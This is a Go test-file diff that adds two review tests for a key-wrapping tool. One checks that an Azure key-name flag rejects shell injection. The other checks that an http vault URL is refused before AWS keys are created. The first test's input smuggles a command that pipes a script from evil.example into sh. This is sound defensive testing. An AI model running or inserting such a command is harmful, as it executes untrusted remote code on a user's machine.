@@ -89,3 +89,36 @@ func TestReviewStatusAzureNewVersionNotFlagged(t *testing.T) {
 }
 
 func to[T any](v T) *T { return &v }
+
+// byok wrap --for azure takes --azure-key unchecked and prints it, bare,
+// into the az command the user is told to run: a name that is no Key Vault
+// name (1-127 letters, digits and -) becomes shell text. It should be
+// refused, naming the flag (exit 2), as --to azure's target refuses it.
+func TestReviewWrapAzureKeyNameChecked(t *testing.T) {
+	_, kek := azureKEK(t)
+	r := runByok(t, cleanEnv(t), "wrap", "--for", "azure", "--kek-id", azureKEKID, "--kek-public", kek,
+		"--out", filepath.Join(t.TempDir(), "x.byok"), "--azure-key", "x; curl https://evil.example/x | sh", keyFile("p256.sec1.pem"))
+	if r.code != 2 || !strings.Contains(r.stderr, "--azure-key") {
+		t.Fatalf("want exit 2 naming --azure-key: %s", r)
+	}
+}
+
+// The manifest takes an Azure vault on http://127.0.0.1 ("http:// only for
+// a fake on the loopback interface", migrate.AzureSpec), but the Azure
+// target refuses any http URL. So the manifest check passes, byok migrate
+// creates and imports the key in AWS, and only then fails the key on its
+// Azure target. Either the manifest check refuses it (exit 2, naming the
+// field) or nothing is done in AWS first.
+func TestReviewManifestAzureHTTPVault(t *testing.T) {
+	url, logs := startEmulator(t)
+	_, env, _ := azureEnv(t)
+	env = append(env, emulatorEnv(t, url)...)
+	manifest := azureFleet(t, "http://127.0.0.1:9", "")
+	r := runByok(t, env, "migrate", manifest, "--progress", "none")
+	if r.code == 2 && strings.Contains(r.stderr, "vault") {
+		return
+	}
+	if n := strings.Count(logs.String(), "TrentService.CreateKey"); n != 0 {
+		t.Fatalf("%d AWS CreateKey before the Azure target was found unusable:\n%s", n, r)
+	}
+}
